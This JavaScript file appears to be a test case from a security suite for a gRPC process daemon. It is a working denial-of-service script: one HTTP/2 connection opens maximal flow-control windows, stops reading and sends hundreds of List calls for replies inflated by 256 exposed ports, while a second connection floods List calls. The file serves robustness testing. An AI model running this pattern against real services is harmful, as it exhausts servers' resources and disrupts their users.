// A51: starts a run that exposes the maximum number of ports, so that answers to List are long. Sends 256 List calls on a connection that reads
// nothing, and a constant stream of List calls on another connection.
import {
  FLAG,
  FRAME,
  frameOfNumbers,
  grpcMessage,
  SETTING,
  settingsFrame,
} from '@wins/http2-connection/testing';
import { RunExposeProtocol, createWinsClient } from '@wins/wins-api';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { address, attacking, file, forever, method } from './hostile.mjs';

const LARGEST_WINDOW = 0x7fffffff;
const digest = createHash('sha256').update(readFileSync(file)).digest('hex');
const exposes = Array.from({ length: 256 }, (_, index) => ({
  port: 40_000 + index,
  protocol: RunExposeProtocol.TCP,
}));
const client = createWinsClient({ address });
// The daemon refuses the first request if it cannot open ports. In that case, the attack starts a run without ports, and the answers to List are
// shorter.
await client
  .startProcess({ path: file, checksumSha256: digest, exposes })
  .catch(() => client.startProcess({ path: file, checksumSha256: digest }));
const LIST = method('ProcessService', 'List');
const empty = grpcMessage('');

function ask(frames, id, block) {
  frames.headers(id, FLAG.endHeaders, block);
  frames.send(FRAME.data, FLAG.endStream, id, empty);
}
forever(1, async (frames) => {
  // Opens all flow-control windows, but reads nothing from the socket.
  const windows = [
    settingsFrame([[SETTING.initialWindowSize, LARGEST_WINDOW]]),
    frameOfNumbers(FRAME.windowUpdate, 0, LARGEST_WINDOW - 65_535),
  ];
  frames.socket.write(Buffer.concat(windows));
  frames.socket.pause();
  const block = frames.block(LIST);
  for (let id = 1; id < 512; id += 2) ask(frames, id, block);
  await frames.closed;
});
forever(1, async (frames) => {
  const block = frames.block(LIST);
  for (let id = 1; id < 10_000; id += 2) {
    ask(frames, id, block);
    await frames.received(({ streamId, flags }) => streamId === id && (flags & 1) === 1);
    frames.frames.length = 0;
    attacking();
  }
});
